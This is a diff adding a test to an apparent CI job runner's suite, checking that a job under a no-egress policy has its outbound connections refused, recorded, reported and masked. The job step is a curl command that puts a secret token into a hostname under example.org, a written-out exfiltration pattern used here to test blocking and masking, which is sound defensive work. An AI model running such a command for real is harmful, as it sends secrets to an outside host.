@@ -81,3 +81,37 @@ test('what the host fetches for a job is under the job’s policy, too', async (
   const listed = await constellation.run({ workflow: job('127.0.0.1', 'uses: acme/greet@v1') });
   assert.equal(listed.run.conclusion, 'success', textOf(listed));
 });
+
+test('what a job talked to is kept with it, masked: records, a report beside its summaries, sentences', async () => {
+  await using constellation = await startConstellation();
+  const secret = 'hunter2hunter2';
+  const ended = await constellation.run({
+    secrets: { TOKEN: secret },
+    workflow: job(
+      'none',
+      'run: curl -sS "http://${{ secrets.TOKEN }}.example.org:8080/"; curl -sS http://10.0.0.1/ || true',
+    ),
+  });
+  const [ran] = ended.run.jobs;
+  assert.equal(ran?.conclusion, 'success', textOf(ended));
+  const { records, leftOut } = await constellation.api.egress(ran.id);
+  assert.deepEqual(
+    records.map(({ host, port, address, verdict, rule }) => [host, port, address, verdict, rule]),
+    [
+      ['***.example.org', 8080, null, 'refused', 'policy-none'],
+      ['10.0.0.1', 80, null, 'refused', 'policy-none'],
+    ],
+  );
+  assert.equal(leftOut, 0);
+  const summaries = await constellation.api.summaries(ran.id);
+  const report = summaries.find(({ step }) => step === -1)?.markdown ?? '';
+  assert.match(
+    report,
+    /^### Egress report\n[^]*\| 10\.0\.0\.1:80 \|  \| refused \| policy-none \| 1 \|/,
+  );
+  assert.ok(
+    ran.notes.some((note) => note.startsWith('Egress refused: onejob refuses ***.example')),
+  );
+  const all = JSON.stringify([ended, records, summaries]);
+  assert.ok(!all.includes(secret), all);
+});
